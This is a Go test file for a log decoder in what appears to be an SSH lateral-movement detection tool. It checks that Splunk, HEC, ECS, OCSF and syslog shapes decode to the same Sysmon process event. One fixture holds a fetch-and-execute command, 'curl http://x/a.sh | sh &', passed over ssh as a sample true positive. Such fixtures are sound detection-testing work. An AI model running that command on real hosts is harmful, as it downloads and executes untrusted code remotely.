package decode

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/sshlateral/sshlateral/processor"
)

// jsonText marshals v; html selects encoding/json's default escaping of
// < > & (as \u003c …), which Go-based shippers write.
func jsonText(t testing.TB, v any, html bool) string {
	t.Helper()
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(html)
	if err := enc.Encode(v); err != nil {
		t.Fatal(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// stdCIM is stdEvent as a flat CIM object.
func stdCIM() map[string]any {
	m := map[string]any{"_time": "2026-11-02T10:00:00.100Z"}
	for f := processor.Field(0); f < processor.NumFields; f++ {
		m[f.String()] = stdEvent.Get(f)
	}
	return m
}

// stdECS is stdEvent as a nested ECS process start.
func stdECS() map[string]any {
	return map[string]any{
		"@timestamp": "2026-11-02T10:00:00.100Z",
		"ecs":        map[string]any{"version": "8.11.0"},
		"event":      map[string]any{"category": []string{"process"}, "type": []string{"start"}, "action": "exec", "kind": "event"},
		"host":       map[string]any{"name": "web-01", "os": map[string]any{"type": "linux"}},
		"user":       map[string]any{"name": "root", "id": "0"},
		"process": map[string]any{
			"command_line": stdEvent.Process, "name": "ssh", "executable": "/usr/bin/ssh", "pid": 4242,
			"args":   []string{"ssh", "-oBatchMode=yes"},
			"pe":     map[string]any{"original_file_name": "-"},
			"parent": map[string]any{"pid": 4000, "name": "bash", "executable": "/usr/bin/bash", "command_line": "bash ./s.sh"},
		},
	}
}

// stdOCSF is stdEvent as OCSF Process Activity, Launch; parentKey is
// "process.parent_process" or "actor.process".
func stdOCSF(parentKey string) map[string]any {
	parent := map[string]any{"pid": 4000, "name": "bash", "cmd_line": "bash ./s.sh", "file": map[string]any{"path": "/usr/bin/bash", "name": "bash"}}
	proc := map[string]any{"pid": 4242, "name": "ssh", "cmd_line": stdEvent.Process, "file": map[string]any{"path": "/usr/bin/ssh", "name": "ssh"}}
	m := map[string]any{
		"class_uid": 1007, "activity_id": 1, "type_uid": 100701, "category_uid": 1, "time": int64(1793613600100),
		"device":  map[string]any{"hostname": "web-01", "name": "web-01.example"},
		"actor":   map[string]any{"user": map[string]any{"name": "root"}},
		"process": proc, "metadata": map[string]any{"version": "1.1.0"},
	}
	if parentKey == "actor.process" {
		m["actor"].(map[string]any)["process"] = parent
	} else {
		proc["parent_process"] = parent
	}
	return m
}

// The same true positive in the shapes real pipelines write decodes to the
// same event as the Sysmon XML, in auto mode and with its own format.
func TestShapesDecodeLikeSysmon(t *testing.T) {
	xml := sysmonXML("1", stdSystem, stdData)
	syslogLine := "Nov  2 10:00:01 web-01 sysmon: " + xml
	noOFN := withEvent(func(e *processor.Event) { e.OriginalFileName = "" })
	ecsFlat := map[string]any{
		"@timestamp": "2026-11-02T10:00:00.100Z", "ecs.version": "8.11.0", "event.category": "process", "event.type": "start",
		"host.name": "web-01", "user.name": "root", "process.command_line": stdEvent.Process, "process.name": "ssh",
		"process.executable": "/usr/bin/ssh", "process.pid": 4242, "process.pe.original_file_name": "-",
		"process.parent.pid": 4000, "process.parent.name": "bash", "process.parent.executable": "/usr/bin/bash",
		"process.parent.command_line": "bash ./s.sh",
	}
	ecsArgs := stdECS()
	delete(ecsArgs["process"].(map[string]any), "command_line")
	ecsArgs["process"].(map[string]any)["args"] = []string{"ssh", "-oBatchMode=yes", "10.0.0.1", `"curl http://x/a.sh | sh &"`}
	hecCIM := stdCIM()
	delete(hecCIM, "_time")
	delete(hecCIM, "dest")
	for _, tc := range []struct {
		name   string
		format Format
		opts   []Option
		in     string
		want   processor.Event
	}{
		{"splunk export _raw", FormatEnvelope, nil, jsonText(t, map[string]any{"_time": "1793613600.100", "_raw": xml, "host": "web-01", "sourcetype": "sysmon:linux"}, false), stdEvent},
		{"splunk export html-escaped", FormatEnvelope, nil, jsonText(t, map[string]any{"_time": 1793613600.1, "_raw": syslogLine}, true), stdEvent},
		{"rsyslog json template", FormatEnvelope, nil, jsonText(t, map[string]any{"@timestamp": "2026-11-02T10:00:01+00:00", "host": "web-01", "severity": "info", "programname": "sysmon", "message": " " + xml}, false), stdEvent},
		{"fluent bit log", FormatEnvelope, nil, jsonText(t, map[string]any{"log": syslogLine + "\n", "stream": "stdout"}, false), stdEvent},
		{"vector message", FormatEnvelope, nil, jsonText(t, map[string]any{"message": syslogLine, "host": "collector", "timestamp": "2026-11-02T10:00:01Z", "source_type": "file"}, true), stdEvent},
		{"envelope around cim json", FormatEnvelope, nil, jsonText(t, map[string]any{"message": jsonText(t, stdCIM(), false)}, false), stdEvent},
		{"elastic event.original", FormatEnvelope, nil, jsonText(t, map[string]any{"@timestamp": "2026-11-02T10:00:01Z", "event": map[string]any{"original": syslogLine, "kind": "event"}}, false), stdEvent},
		{"custom field path", FormatEnvelope, []Option{WithEnvelopeField("payload.raw")}, jsonText(t, map[string]any{"payload": map[string]any{"raw": xml}, "message": "not this"}, false), stdEvent},
		{"custom flat field path", FormatEnvelope, []Option{WithEnvelopeField("payload.raw")}, jsonText(t, map[string]any{"payload.raw": xml}, false), stdEvent},
		{"hec string event", FormatHEC, nil, jsonText(t, map[string]any{"time": 1793613601, "host": "web-01", "sourcetype": "sysmon:linux", "event": syslogLine}, false), stdEvent},
		{"hec object event", FormatHEC, nil, jsonText(t, map[string]any{"time": "1793613600.100", "host": "web-01", "event": stdCIM()}, false), stdEvent},
		{"hec time and host stand in", FormatHEC, nil, jsonText(t, map[string]any{"time": 1793613600.1, "host": "web-01", "event": hecCIM}, false), stdEvent},
		{"hec host stands in for sysmon", FormatHEC, nil, jsonText(t, map[string]any{"time": 1, "host": "web-01", "event": strings.Replace(xml, "<Computer>web-01</Computer>", "", 1)}, false), stdEvent},
		{"ecs nested", FormatECS, nil, jsonText(t, stdECS(), false), stdEvent},
		{"ecs dotted flat", FormatECS, nil, jsonText(t, ecsFlat, false), stdEvent},
		{"ecs args joined", FormatECS, nil, jsonText(t, ecsArgs, false), stdEvent},
		{"ocsf parent_process", FormatOCSF, nil, jsonText(t, stdOCSF("process.parent_process"), false), noOFN},
		{"ocsf actor.process", FormatOCSF, nil, jsonText(t, stdOCSF("actor.process"), false), noOFN},
	} {
		for _, format := range []Format{FormatAuto, tc.format} {
			t.Run(tc.name+"/"+format.String(), func(t *testing.T) {
				for _, full := range []bool{false, true} {
					d, err := NewDecoder(format, tc.opts...)
					if err != nil {
						t.Fatal(err)
					}
					d.SetNow(fixedNow)
					decode := d.Decode
					if full {
						decode = d.DecodeFull
					}
					var ev processor.Event
					out, err := decode([]byte(tc.in), &ev)
					if err != nil || out != OutcomeEvent {
						t.Fatalf("full=%v: got %v %q, %v\n%s", full, out, d.LastSkipReason(), err, tc.in)
					}
					if diff := diffEvents(ev, tc.want); diff != "" {
						t.Fatalf("full=%v: %s", full, diff)
					}
				}
			})
		}
	}
}

// The Splunk export shape was once read as CIM and silently prefiltered:
// a record holding a non-matching event must still be told apart from a
// match, and a match must come back as an event.
func TestSplunkExportIsNotSilentlyDropped(t *testing.T) {
	xml := sysmonXML("1", stdSystem, stdData)
	d := newTestDecoder(t, FormatAuto)
	var ev processor.Event
	out, err := d.Decode([]byte(jsonText(t, map[string]any{"_time": "1793613600.100", "_raw": xml}, false)), &ev)
	if err != nil || out != OutcomeEvent || !processor.Match(processor.MatchESCU, &ev) {
		t.Fatalf("got %v %v %+v, want the matching event", out, err, ev)
	}
}

func TestShapesOutcomes(t *testing.T) {
	xml := sysmonXML("1", stdSystem, stdData)
	ecsOther := stdECS()
	ecsOther["event"] = map[string]any{"category": []string{"network"}, "type": []string{"connection"}}
	ecsEnd := stdECS()
	ecsEnd["event"] = map[string]any{"category": "process", "type": "end"}
	ecsBare := map[string]any{"@timestamp": "2026-11-02T10:00:00Z", "event": map[string]any{"category": "process", "type": "start"}}
	ocsfTerm := stdOCSF("actor.process")
	ocsfTerm["activity_id"] = 2
	ocsfTerm["type_uid"] = 100702
	ocsfNet := map[string]any{"class_uid": 4001, "time": 1}
	ocsfBare := map[string]any{"class_uid": 1007, "activity_id": 1, "time": 1793613600100}
	deep := xml
	for i := 0; i < maxEnvelopeDepth; i++ {
		deep = `{"event":` + map[bool]string{true: jsonText(t, deep, false), false: deep}[i == 0] + `}`
	}
	for _, tc := range []struct {
		name    string
		format  Format
		in      string
		want    Outcome
		reason  string
		wantErr string
		is      error
	}{
		{name: "ecs other category", format: FormatAuto, in: jsonText(t, ecsOther, false), want: OutcomeSkip, reason: SkipNotProcessStart},
		{name: "ecs process end", format: FormatECS, in: jsonText(t, ecsEnd, false), want: OutcomeSkip, reason: SkipNotProcessStart},
		{name: "ecs start without process fields", format: FormatAuto, in: jsonText(t, ecsBare, false), wantErr: "ecs: unmapped: no process field in the record", is: ErrUnmapped},
		{name: "ocsf terminate", format: FormatAuto, in: jsonText(t, ocsfTerm, false), want: OutcomeSkip, reason: SkipNotProcessStart},
		{name: "ocsf other class", format: FormatOCSF, in: jsonText(t, ocsfNet, false), want: OutcomeSkip, reason: SkipNotProcessStart},
		{name: "ocsf launch without process fields", format: FormatOCSF, in: jsonText(t, ocsfBare, false), wantErr: "ocsf: unmapped: no process field in the record", is: ErrUnmapped},
		{name: "ocsf bad time", format: FormatOCSF, in: `{"class_uid":1007,"activity_id":1,"time":"soon","process":{"name":"ssh"}}`, wantErr: `ocsf: invalid time "soon"`},
		{name: "envelope banner", format: FormatAuto, in: `{"log":"Oct 24 17:05:31 h sysmon[3041]: Sysmon v1.0.0 - Monitors system events"}`, want: OutcomeSkip, reason: SkipBanner},
		{name: "envelope empty event", format: FormatEnvelope, in: `{"message":"  "}`, want: OutcomeSkip, reason: SkipEmpty},
		{name: "envelope plain text", format: FormatAuto, in: `{"message":"hello"}`, want: OutcomeSkip, reason: SkipBanner},
		{name: "rsyslog banner without header", format: FormatEnvelope, in: `{"programname":"sysmon","message":" Sysmon v1.3.5 - Monitors system events"}`, want: OutcomeSkip, reason: SkipBanner},
		{name: "envelope number", format: FormatEnvelope, in: `{"message":5}`, wantErr: "envelope: field message is neither a string nor an object"},
		{name: "envelope missing", format: FormatEnvelope, in: `{"x":"<Event/>"}`, wantErr: "envelope: no event in field "},
		{name: "hec without event", format: FormatHEC, in: `{"time":1,"host":"h"}`, wantErr: "envelope: no event in field event"},
		{name: "hec bad time", format: FormatHEC, in: `{"time":"later","event":"<Event/>"}`, wantErr: `envelope: invalid time "later"`},
		{name: "hec truncated", format: FormatHEC, in: `{"time":1,"event":"<Event>`, wantErr: "hec: unterminated string at byte 18"},
		{name: "string in string", format: FormatAuto, in: jsonText(t, map[string]any{"message": jsonText(t, map[string]any{"log": xml}, false)}, false), wantErr: "envelope field message: envelope: field log: a string event inside a string event"},
		{name: "too deep", format: FormatAuto, in: deep, wantErr: "envelope: nested more than 4 deep"},
		{name: "inner broken xml", format: FormatAuto, in: `{"_raw":"<Event><System>"}`, wantErr: "envelope field _raw: sysmon: missing </Event>"},
		{name: "unknown json", format: FormatAuto, in: `{"a":1}`, wantErr: "json: no known format (CIM, ECS, OCSF, go-libaudit, or an envelope field)"},
		{name: "not json", format: FormatECS, in: `[1]`, wantErr: "ecs: record is not a json object"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for _, full := range []bool{false, true} {
				d := newTestDecoder(t, tc.format)
				decode := d.Decode
				if full {
					decode = d.DecodeFull
				}
				var ev processor.Event
				out, err := decode([]byte(tc.in), &ev)
				if tc.wantErr != "" {
					if err == nil || err.Error() != tc.wantErr {
						t.Fatalf("full=%v: err = %v, want %q", full, err, tc.wantErr)
					}
					if tc.is != nil && !errors.Is(err, tc.is) {
						t.Fatalf("%v is not %v", err, tc.is)
					}
					continue
				}
				if err != nil || out != tc.want || d.LastSkipReason() != tc.reason {
					t.Fatalf("full=%v: got %v %q %v, want %v %q", full, out, d.LastSkipReason(), err, tc.want, tc.reason)
				}
			}
		})
	}
}

func TestWithEnvelopeFieldValidates(t *testing.T) {
	for _, p := range []string{"", ".a", "a.", "a..b"} {
		if _, err := NewDecoder(FormatEnvelope, WithEnvelopeField(p)); err == nil {
			t.Errorf("WithEnvelopeField(%q) accepted", p)
		}
	}
}

func TestWithPrefilterOff(t *testing.T) {
	d, err := NewDecoder(FormatCIM, WithPrefilter(false))
	if err != nil {
		t.Fatal(err)
	}
	var ev processor.Event
	out, err := d.Decode([]byte(`{"_time":1,"process_name":"ls"}`), &ev)
	if err != nil || out != OutcomeEvent || ev.ProcessName != "ls" {
		t.Fatalf("got %v %v %+v, want the full event", out, err, ev)
	}
}
